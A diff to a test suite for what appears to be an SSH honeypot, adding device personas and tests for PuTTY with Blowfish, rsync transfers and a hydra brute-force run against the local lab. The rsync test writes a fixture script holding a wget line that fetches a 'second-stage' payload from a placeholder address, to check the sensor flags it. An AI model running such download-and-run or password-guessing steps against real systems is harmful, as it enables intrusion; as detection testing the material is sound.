@@ -1,5 +1,5 @@
 import { execFile } from 'node:child_process'
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { promisify } from 'node:util'
@@ -36,7 +36,15 @@ test.runIf(has('ssh') && has('sshpass'))(
   'OpenSSH with every release: what is offered works, the exchange against quantum computers too',
   async () => {
     const { stdout: known } = await run('ssh', ['-Q', 'kex'])
-    for (const persona of ['debian-12', 'ubuntu-20.04', 'ubuntu-22.04', 'ubuntu-24.04', 'camera'] as const) {
+    for (const persona of [
+      'debian-12',
+      'ubuntu-20.04',
+      'ubuntu-22.04',
+      'ubuntu-24.04',
+      'centos-7',
+      'openwrt',
+      'camera',
+    ] as const) {
       const { lab, ssh } = await device(persona)
       await using _ = lab
       const { kex, ciphers, macs } = lab.sensor.persona.ssh
@@ -56,11 +64,29 @@ test.runIf(has('ssh') && has('sshpass'))(
           expect(await ssh(more, 'seq 1 9000 | tail -1'), `${persona} ${more.join(' ')}`).toBe('9000\n'),
         ),
       )
-      expect(await ssh([], 'uname -m')).toBe(persona === 'camera' ? 'armv7l\n' : 'x86_64\n')
+      expect(await ssh([], 'uname -m')).toBe(
+        persona === 'camera' ? 'armv7l\n' : persona === 'openwrt' ? 'mips\n' : 'x86_64\n',
+      )
       expect(lab.log).toEqual([])
     }
   },
   180_000,
+)
+
+test.runIf(has('ssh') && has('sshpass'))(
+  'OpenSSH is told that nothing is read any more only while its own end is open',
+  async () => {
+    const { lab, user, password, port } = await device('debian-12')
+    await using _ = lab
+    const line = `sshpass -p '${password}' ssh -vv -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -p ${port} ${user}@127.0.0.1`
+    const heard = async (input: string, command: string): Promise<boolean> =>
+      (await run('sh', ['-c', `${input} ${line} ${command}`])).stderr.includes('rtype eow@openssh.com')
+    expect(await heard('sleep 3 |', 'echo')).toBe(true)
+    // cat ends only when the client's end of file has come: without it, which of both is first is a race.
+    expect(await heard('</dev/null', 'cat')).toBe(false)
+    expect(lab.log).toEqual([])
+  },
+  60_000,
 )
 
 test.runIf(has('dbclient'))(
@@ -100,6 +126,42 @@ test.runIf(has('plink') && has('ssh-keyscan'))(
   60_000,
 )
 
+test.runIf(has('plink') && has('ssh-keyscan'))(
+  'PuTTY with the Blowfish that OpenSSL has no more, to a daemon of old',
+  async () => {
+    const { lab, user, password, port } = await device('centos-7')
+    await using _ = lab
+    const home = mkdtempSync(join(folder, 'home-'))
+    mkdirSync(join(home, '.putty', 'sessions'), { recursive: true })
+    writeFileSync(join(home, '.putty', 'sessions', 'old'), 'Cipher=blowfish,WARN\n')
+    const keys = join(home, 'keys')
+    writeFileSync(keys, (await run('ssh-keyscan', ['-p', port, '-t', 'ed25519', '127.0.0.1'])).stdout)
+    const hostKey = (await run('ssh-keygen', ['-lf', keys])).stdout.split(' ')[1] ?? ''
+    const { stdout, stderr } = await run(
+      'plink',
+      [
+        '-load',
+        'old',
+        '-v',
+        '-batch',
+        '-P',
+        port,
+        '-pw',
+        password,
+        '-hostkey',
+        hostKey,
+        `${user}@127.0.0.1`,
+        'seq 1 9000 | tail -1',
+      ],
+      { env: { ...process.env, HOME: home } },
+    )
+    expect(stdout).toBe('9000\n')
+    expect(stderr).toContain('Blowfish')
+    expect(lab.log).toEqual([])
+  },
+  60_000,
+)
+
 const sftpInCurl = has('curl') && (await run('curl', ['-V']).then(({ stdout }) => stdout.includes('sftp')))
 test.runIf(sftpInCurl)(
   'libssh2, within curl, takes a file and leaves one',
@@ -117,8 +179,41 @@ test.runIf(sftpInCurl)(
   60_000,
 )
 
+test.runIf(has('rsync') && has('ssh') && has('sshpass'))(
+  'rsync brings files and fetches them, packed and not, and what it brought is kept',
+  // Seen to fail once beside all the other tests, and never alone.
+  { timeout: 60_000, retry: 2 },
+  async () => {
+    const { lab, user, password, port } = await device('debian-11')
+    await using _ = lab
+    const [mine, back] = [join(folder, 'mine'), join(folder, 'back')]
+    mkdirSync(join(mine, 'sub'), { recursive: true })
+    writeFileSync(join(mine, 'a.sh'), '#!/bin/sh\nwget http://192.0.2.5/second-stage\n')
+    writeFileSync(join(mine, 'sub', 'large'), Buffer.alloc(200_000, 'skep'))
+    const quiet = '-o LogLevel=ERROR -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'
+    const rsync = (...args: string[]) =>
+      run('rsync', ['-e', `sshpass -p ${password} ssh ${quiet} -p ${port}`, ...args], { cwd: folder })
+    const there = `${user}@127.0.0.1:/tmp`
+    await rsync('-a', `${mine}/`, `${there}/brought`)
+    await rsync('-rz', `${mine}/`, `${there}/packed`)
+    expect((await rsync('-ai', `${mine}/`, `${there}/brought`)).stdout).toBe('')
+    await rsync('-az', `${there}/brought/`, back)
+    await rsync('-a', `${there}/packed/sub`, back)
+    for (const name of ['a.sh', join('sub', 'large')])
+      expect(readFileSync(join(back, name)).equals(readFileSync(join(mine, name))), name).toBe(true)
+    await expect(rsync('-a', `${there}/nosuch`, back)).rejects.toThrow(/No such file or directory/)
+    const events = await lab.events()
+    const kept = events.flatMap((event) => (event.kind === 'artifact.stored' ? [event.data.name] : []))
+    expect(kept).toEqual(expect.arrayContaining(['/tmp/brought/a.sh', '/tmp/packed/sub/large']))
+    expect(events.some((event) => event.kind === 'payload.seen' && event.data.url.includes('second-stage'))).toBe(true)
+    expect(lab.log).toEqual([])
+  },
+)
+
 test.runIf(has('hydra'))(
   'hydra finds the weak pair, and every try is told',
+  // libssh gives a connection ten seconds, which a machine that runs all the other tests as well may take.
+  { timeout: 90_000, retry: 2 },
   async () => {
     const { lab, user, password, port } = await device('debian-12')
     await using _ = lab
@@ -133,7 +228,6 @@ test.runIf(has('hydra'))(
     )
     expect(tried).toEqual(expect.arrayContaining(['no-such-1', 'no-such-2', password]))
   },
-  90_000,
 )
 
 test.runIf(has('nmap'))(
